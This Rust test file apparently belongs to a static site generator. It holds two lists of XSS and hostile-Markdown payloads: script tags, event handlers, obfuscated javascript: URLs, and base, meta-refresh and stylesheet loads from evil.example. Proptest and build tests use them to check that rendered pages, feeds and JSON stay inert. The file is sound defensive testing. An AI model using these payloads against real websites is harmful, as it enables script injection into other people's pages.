//! Script that must never run: hostile Markdown pieces through the renderer
//! (a proptest beside the `markdown` fuzz target), and XSS payloads in every
//! field of a case through the whole build, checked in every output file.

use std::fs;

use serde_json::Value;

use crate::hostile::check_json;
use crate::oracle::{active_html, browser_url, unescape_attr};
use crate::support::{Site, files_under, run};

/// Pieces of hostile Markdown and HTML that the renderer proptest strings
/// together (with random text between), so that each run tries a new mix.
const PIECES: [&str; 40] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"/media/a.png\" onload=\"alert(1)\" alt=a>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\" &#106;avascript:alert(1)\">b</a>",
    "<a href=\"java\u{0}script:alert(1)\">c</a>",
    "<a href=\"vbscript:msgbox(1)\">d</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">e</a>",
    "[x](javascript:alert(1))",
    "[x](  JAVASCRIPT:alert(1) \"t\")",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/a.png)",
    "![x](/media/../../etc/passwd)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<form action=\"https://evil.example/\"><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>*{display:none}</style>",
    "<p style=\"position:fixed\">s</p>",
    "<div onmouseover=\"alert(1)\">d</div>",
    "<a href=\"https://ks.no/\" onclick=\"alert(1)\">ok</a>",
    "<object data=x></object><embed src=x>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"x\"\nonerror=\"alert(1)\">",
    "# Tittel {#main onclick=alert(1)}",
    "Tekst[^1]\n\n[^1]: <script>alert(1)</script>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
    "```html\n<script>alert(1)</script>\n```",
    "<ſcript>alert(1)</ſcript> <ｓcript>alert(1)</ｓcript>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">f</a>",
    "<details open ontoggle=alert(1)>",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]
    /// What the `markdown` fuzz target checks: any mix of hostile pieces and
    /// text renders to HTML with nothing active in it.
    #[test]
    fn rendered_markdown_is_never_active(
        parts in proptest::collection::vec(
            (0..PIECES.len(), "\\PC{0,12}", proptest::sample::select(vec!["", " ", "\n", "\n\n", "\n> ", "\n- ", "\n    "])),
            1..8,
        ),
        root in proptest::sample::select(vec!["/", "/samling/"]),
    ) {
        use casebook::render::markdown::{Fragment, Ids, render};
        let mut text = String::new();
        for (piece, filler, sep) in parts {
            text.push_str(PIECES[piece]);
            text.push_str(&filler);
            text.push_str(sep);
        }
        let html = render(&text, Fragment { prefix: "behov", min_heading: 2, root }, &mut Ids::reserved(&["main"]));
        let problems = active_html(&html, root);
        proptest::prop_assert!(problems.is_empty(), "{:?}\nfrom {:?}\nto {}", problems, text, html);
    }
}

/// XSS payloads. `{M}` is replaced by a marker unique to
/// the payload (`XSS07`); a payload that became active would carry its
/// marker into a script, an event handler, a dangerous URL or a tag name.
/// Images point at `/media/pixel.svg` where the payload is not about the
/// image source, so that `check` lets the rest of the payload through.
const XSS_PAYLOADS: [&str; 48] = [
    "<script>alert('{M}')</script>",
    "<SCRIPT SRC=https://evil.example/{M}.js></SCRIPT>",
    "<ScRiPt>alert('{M}')</sCrIpT>",
    "<img src=\"/media/pixel.svg\" onerror=\"alert('{M}')\">",
    "<img src=/media/pixel.svg onload=alert('{M}') alt={M}>",
    "<img src=\"/media/pixel.svg\"\nonerror=\"alert('{M}')\">",
    "<svg onload=alert('{M}')><circle r=1 /></svg>",
    "<svg><script>alert('{M}')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=/media/pixel.svg onerror=alert('{M}')>",
    "<iframe src=\"javascript:alert('{M}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{M}')</script>\"></iframe>",
    "<a href=\"javascript:alert('{M}')\">a</a>",
    "<a href=\"JaVaScRiPt:alert('{M}')\">b</a>",
    "<a href=\" &#106;avascript:alert('{M}')\">c</a>",
    "<a href=\"java&#x09;script:alert('{M}')\">d</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('{M}')\">e</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert('{M}')\">f</a>",
    "<a href=\"vbscript:msgbox('{M}')\">g</a>",
    "<a href=\"VBScript:MsgBox('{M}')\">h</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{M}\">i</a>",
    "[j](javascript:alert('{M}'))",
    "[k](  JAVASCRIPT:alert('{M}') \"t\")",
    "[l](<javascript:alert('{M}')>)",
    "<javascript:alert('{M}')>",
    "[m][r{M}]\n\n[r{M}]: javascript:alert('{M}')",
    "<base href=\"https://evil.example/{M}/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{M}\">",
    "<form action=\"https://evil.example/{M}\"><input name=q><button formaction=\"javascript:alert('{M}')\">n</button></form>",
    "<style>@import 'https://evil.example/{M}.css';</style>",
    "<p style=\"background:url(https://evil.example/{M})\">o</p>",
    "<div onmouseover=\"alert('{M}')\">p</div>",
    "<details open ontoggle=alert('{M}')>q</details>",
    "<object data=\"https://evil.example/{M}.swf\"></object><embed src=\"https://evil.example/{M}\">",
    "<link rel=stylesheet href=\"https://evil.example/{M}.css\">",
    "</title><script>alert('{M}')</script>",
    "\"><script>alert('{M}')</script>",
    "'><img src=/media/pixel.svg onerror=alert('{M}')>",
    "</script><script>alert('{M}')</script>",
    "<!--<script>alert('{M}')</script>-->",
    "<scr<script>ipt>alert('{M}')</scr</script>ipt>",
    "<ſcript>alert('{M}')</ſcript> <ｓcript>alert('{M}')</ｓcript>",
    "<img src=/media/pixel.svg onerror=alert('{M}')",
    "<noscript><p title=\"</noscript><img src=/media/pixel.svg onerror=alert('{M}')>\"></noscript>",
    "<table><td background=\"javascript:alert('{M}')\">r</td></table>",
    "<video poster=\"javascript:alert('{M}')\"></video><input autofocus onfocus=alert('{M}')>",
    "<a href=\"\u{1}javascript:alert('{M}')\">s</a> <a href=\"javascript\u{2028}:alert('{M}')\">t</a>",
    "{{ '{M}' }} {% raw %}<u>{M}</u>{% endraw %} <%= '{M}' %>",
    "![u](data:image/svg+xml,<svg/onload=alert('{M}')>) ![v](https://evil.example/{M}.png)",
];

/// A case with `payload` in every text field, Markdown field, the body,
/// a link title, an indicator name and label, and a funding source.
fn xss_case(payload: &str, marker: &str) -> String {
    let q = serde_json::to_string(payload).expect("json");
    format!(
        "---\ntitle: {q}\nmunicipality: {q}\nmunicipality_number: \"1506\"\ncounty: Møre og Romsdal\n\
         programme: saman\nthemes: [sykefravaer, kompetanse]\nstatus: completed\npublished: 2014-01-01\n\
         summary: {q}\nneed: {q}\ngoal: {q}\nmeasures: [{q}, {q}]\nresult: {q}\nanchoring: {q}\n\
         indicators:\n  - name: {q}\n    unit: percent\n    series: [{{ period: 2012, value: 1.5 }}, {{ period: 2013, value: 2.5 }}]\n\
         \x20   targets: [{{ period: 2014, value: 1.0, label: {q} }}]\n\
         funding:\n  - {{ source: {q}, amount_nok: 1000 }}\n\
         links:\n  - {{ title: {q}, url: \"https://example.com/{marker}?a=1&b=2\" }}\n\
         ---\n{payload}\n\n## {payload}\n\n> {payload}\n\n- {payload}\n\n[{payload}](https://example.com/)\n"
    )
}

/// One tag of an HTML page, attribute values unescaped, lower-case names.
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
    /// The raw text of a `<script>` or `<style>` element.
    raw: Option<String>,
}

/// The opening tags of `html`, with the raw contents of script and style.
/// A `<` that opens no tag is reported as a tag named `<`.
fn scan_tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        rest = &rest[lt + 1..];
        if let Some(after) = rest.strip_prefix("!--") {
            rest = after.find("-->").map_or("", |end| &after[end + 3..]);
            continue;
        }
        if rest.starts_with('!') || rest.starts_with('?') || rest.starts_with('/') {
            continue;
        }
        let name_len = rest
            .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
            .unwrap_or(rest.len());
        let name = rest[..name_len].to_ascii_lowercase();
        if !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
            tags.push(Tag {
                name: "<".into(),
                attrs: Vec::new(),
                raw: None,
            });
            continue;
        }
        let mut attrs = Vec::new();
        let mut a = &rest[name_len..];
        loop {
            a = a.trim_start();
            if a.is_empty() || a.starts_with('>') || a.starts_with("/>") {
                break;
            }
            let len = a
                .find(|c: char| c.is_whitespace() || "=>".contains(c))
                .unwrap_or(a.len())
                .max(1);
            let attr = a[..len].to_ascii_lowercase();
            a = &a[len..];
            let mut value = String::new();
            if let Some(v) = a.strip_prefix('=') {
                let (raw, after) = match v.chars().next() {
                    Some(q @ ('"' | '\'')) => {
                        let end = v[1..].find(q).map_or(v.len(), |i| i + 1);
                        (&v[1..end], v.get(end + 1..).unwrap_or(""))
                    }
                    _ => {
                        let end = v
                            .find(|c: char| c.is_whitespace() || c == '>')
                            .unwrap_or(v.len());
                        (&v[..end], &v[end..])
                    }
                };
                value = unescape_attr(raw);
                a = after;
            }
            attrs.push((attr, value));
        }
        rest = a.strip_prefix('>').unwrap_or(a);
        let mut raw = None;
        if name == "script" || name == "style" {
            let end = rest
                .to_ascii_lowercase()
                .find(&format!("</{name}"))
                .unwrap_or(rest.len());
            raw = Some(rest[..end].to_owned());
            rest = &rest[end..];
        }
        tags.push(Tag { name, attrs, raw });
    }
    tags
}

/// Everything active in one built HTML (or SVG) file.
fn active_in_page(text: &str, markers: &[String]) -> Vec<String> {
    const URL_ATTRIBUTES: [&str; 11] = [
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "poster",
        "background",
        "cite",
        "data",
        "xlink:href",
        "longdesc",
    ];
    const LOADS: [&str; 5] = ["src", "srcset", "poster", "background", "data"];
    const NEVER: [&str; 11] = [
        "iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "template",
        "portal", "style",
    ];
    let has_marker = |s: &str| markers.iter().any(|m| s.contains(m.as_str()));
    let mut problems = Vec::new();
    for tag in scan_tags(text) {
        let name = tag.name.as_str();
        let get = |k: &str| {
            tag.attrs
                .iter()
                .find(|(a, _)| a == k)
                .map(|(_, v)| v.as_str())
        };
        if name == "<" {
            continue; // a `<` in running text of a non-HTML file
        }
        if has_marker(&name.to_ascii_uppercase()) || NEVER.contains(&name) {
            problems.push(format!("element <{name}>"));
        }
        if name == "script" {
            let raw = tag.raw.as_deref().unwrap_or("");
            match get("src") {
                Some(src)
                    if src.starts_with('/') && !src.starts_with("//") && raw.trim().is_empty() => {}
                _ if get("type") == Some("application/ld+json") => {
                    if serde_json::from_str::<serde_json::Value>(raw).is_err() {
                        problems.push(format!("JSON-LD that is not JSON: {raw}"));
                    }
                }
                _ => problems.push(format!("inline or foreign script: {:?} {raw}", get("src"))),
            }
        }
        if name == "meta"
            && get("http-equiv").is_some_and(|h| !h.eq_ignore_ascii_case("content-security-policy"))
        {
            problems.push(format!("<meta http-equiv={:?}>", get("http-equiv")));
        }
        if name == "link"
            && get("rel").is_some_and(|r| {
                [
                    "stylesheet",
                    "preload",
                    "prefetch",
                    "import",
                    "icon",
                    "manifest",
                ]
                .contains(&r)
            })
            && get("href").is_some_and(|h| !h.starts_with('/') || h.starts_with("//"))
        {
            problems.push(format!("<link> to another host: {:?}", get("href")));
        }
        if name == "form"
            && get("action").is_some_and(|a| !a.starts_with('/') || a.starts_with("//"))
        {
            problems.push(format!("<form> posting elsewhere: {:?}", get("action")));
        }
        for (attr, value) in &tag.attrs {
            if has_marker(&attr.to_ascii_uppercase()) {
                problems.push(format!("attribute name `{attr}` from content on <{name}>"));
            }
            if attr.starts_with("on")
                || ["style", "srcdoc", "formaction", "http-equiv"].contains(&attr.as_str())
                    && name != "meta"
            {
                problems.push(format!("attribute `{attr}=\"{value}\"` on <{name}>"));
            }
            if URL_ATTRIBUTES.contains(&attr.as_str()) {
                let url = browser_url(value);
                if ["javascript:", "vbscript:", "data:", "file:"]
                    .iter()
                    .any(|s| url.starts_with(s))
                {
                    problems.push(format!("`{attr}=\"{value}\"` on <{name}>"));
                }
                if LOADS.contains(&attr.as_str())
                    && (url.starts_with("http:")
                        || url.starts_with("https:")
                        || url.starts_with("//"))
                {
                    problems.push(format!(
                        "a request to another host: `{attr}=\"{value}\"` on <{name}>"
                    ));
                }
            }
        }
    }
    problems
}

/// Issue 8, item 1: every payload in every field either is refused by
/// `check` with a located error, or is built and inert in every output
/// file: HTML pages, the Atom feed (whose HTML is checked after
/// unescaping), the JSON data and search files (which must parse), SVG.
#[test]
fn xss_payloads_in_every_field_never_reach_the_site_active() {
    let site = Site::fixture("full");
    let markers: Vec<String> = (0..XSS_PAYLOADS.len())
        .map(|i| format!("XSS{i:02}"))
        .collect();
    for (i, payload) in XSS_PAYLOADS.iter().enumerate() {
        let payload = payload.replace("{M}", &markers[i]);
        site.write(
            &format!("content/cases/xss-{i:02}.md"),
            &xss_case(&payload, &markers[i]),
        );
    }
    let page: String = XSS_PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| format!("{}\n\n", p.replace("{M}", &markers[i])))
        .collect();
    site.write(
        "content/pages/xss.md",
        &format!(
            "---\ntitle: {}\nsummary: {}\n---\n{page}",
            serde_json::to_string(&markers.join("<script>")).expect("json"),
            "\"</title><script>alert('XSS')</script>\""
        ),
    );
    // Payloads that `check` refuses (image sources on another host or in a
    // data: URL) are set aside, each refusal naming its file.
    let (_, diags, _) = check_json(&site);
    let refused: Vec<usize> = (0..XSS_PAYLOADS.len())
        .filter(|i| {
            diags.iter().any(|d| {
                d["severity"] == "error"
                    && d["file"] == format!("content/cases/xss-{i:02}.md").as_str()
            })
        })
        .collect();
    let other_errors: Vec<&Value> = diags
        .iter()
        .filter(|d| {
            d["severity"] == "error"
                && !d["file"]
                    .as_str()
                    .is_some_and(|f| f.starts_with("content/cases/xss-"))
        })
        .collect();
    assert!(other_errors.is_empty(), "{other_errors:?}");
    for i in &refused {
        fs::remove_file(site.path(&format!("content/cases/xss-{i:02}.md")))
            .expect("remove refused");
    }
    let built = XSS_PAYLOADS.len() - refused.len();
    assert!(
        built >= 40,
        "only {built} payloads get past check; refused: {refused:?}"
    );
    let out = run(site.cmd(&["build"]));
    assert_eq!(out.code, 0, "{}", out.stderr);

    let mut problems = Vec::new();
    let mut seen = vec![false; XSS_PAYLOADS.len()];
    for (file, bytes) in files_under(&site.path("public")) {
        let Ok(text) = String::from_utf8(bytes) else {
            continue;
        };
        for (i, m) in markers.iter().enumerate() {
            seen[i] |= text.contains(m.as_str());
        }
        let ext = file.rsplit('.').next().unwrap_or("");
        let mut found = match ext {
            "html" | "svg" => active_in_page(&text, &markers),
            "json" => match serde_json::from_str::<Value>(&text) {
                Ok(_) => Vec::new(),
                Err(e) => vec![format!("not JSON: {e}")],
            },
            "xml" => feed_problems(&text, &markers),
            "js" => [
                "innerHTML",
                "outerHTML",
                "insertAdjacentHTML",
                "document.write",
                "eval(",
                "new Function",
            ]
            .iter()
            .filter(|sink| text.contains(*sink))
            .map(|sink| format!("script uses `{sink}`"))
            .collect(),
            _ => Vec::new(),
        };
        if ext == "html" && !has_strict_csp(&text) {
            found.push(
                "no Content-Security-Policy with default-src 'self' and no unsafe-inline".into(),
            );
        }
        problems.extend(found.into_iter().map(|p| format!("{file}: {p}")));
    }
    problems.truncate(40);
    assert!(
        problems.is_empty(),
        "{} active payloads:\n{}",
        problems.len(),
        problems.join("\n")
    );
    let unseen: Vec<&String> = markers
        .iter()
        .zip(&seen)
        .filter(|(_, s)| !**s)
        .map(|(m, _)| m)
        .collect();
    let unseen_built: Vec<&&String> = unseen
        .iter()
        .filter(|m| !refused.iter().any(|i| &&markers[*i] == *m))
        .collect();
    assert!(
        unseen_built.is_empty(),
        "built payloads whose marker appears nowhere (is the test blind?): {unseen_built:?}"
    );
    eprintln!(
        "xss: {} payloads, each in 13 front-matter fields and 5 places in the body; {} refused by check, {built} built; 0 active",
        XSS_PAYLOADS.len(),
        refused.len()
    );
}

fn has_strict_csp(html: &str) -> bool {
    scan_tags(html).iter().any(|t| {
        t.name == "meta"
            && t.attrs.iter().any(|(a, v)| {
                a == "http-equiv" && v.eq_ignore_ascii_case("content-security-policy")
            })
            && t.attrs.iter().any(|(a, v)| {
                a == "content" && v.contains("default-src 'self'") && !v.contains("unsafe-inline")
            })
    })
}

/// The feed must be well-formed XML, and the HTML it carries (escaped in
/// `content` and `summary`) must be as inert as the pages.
fn feed_problems(xml: &str, markers: &[String]) -> Vec<String> {
    use quick_xml::Reader;
    use quick_xml::events::Event;
    let mut reader = Reader::from_str(xml);
    let mut problems = Vec::new();
    loop {
        match reader.read_event() {
            Ok(Event::Eof) => break,
            Ok(Event::Text(t)) => {
                let text = t.decode().map(|c| c.into_owned()).unwrap_or_default();
                let text = quick_xml::escape::unescape(&text)
                    .map(|c| c.into_owned())
                    .unwrap_or(text);
                problems.extend(
                    active_in_page(&text, markers)
                        .into_iter()
                        .filter(|p| !p.starts_with("element <<")),
                );
            }
            Ok(_) => {}
            Err(e) => {
                problems.push(format!("not well-formed XML: {e}"));
                break;
            }
        }
    }
    problems
}
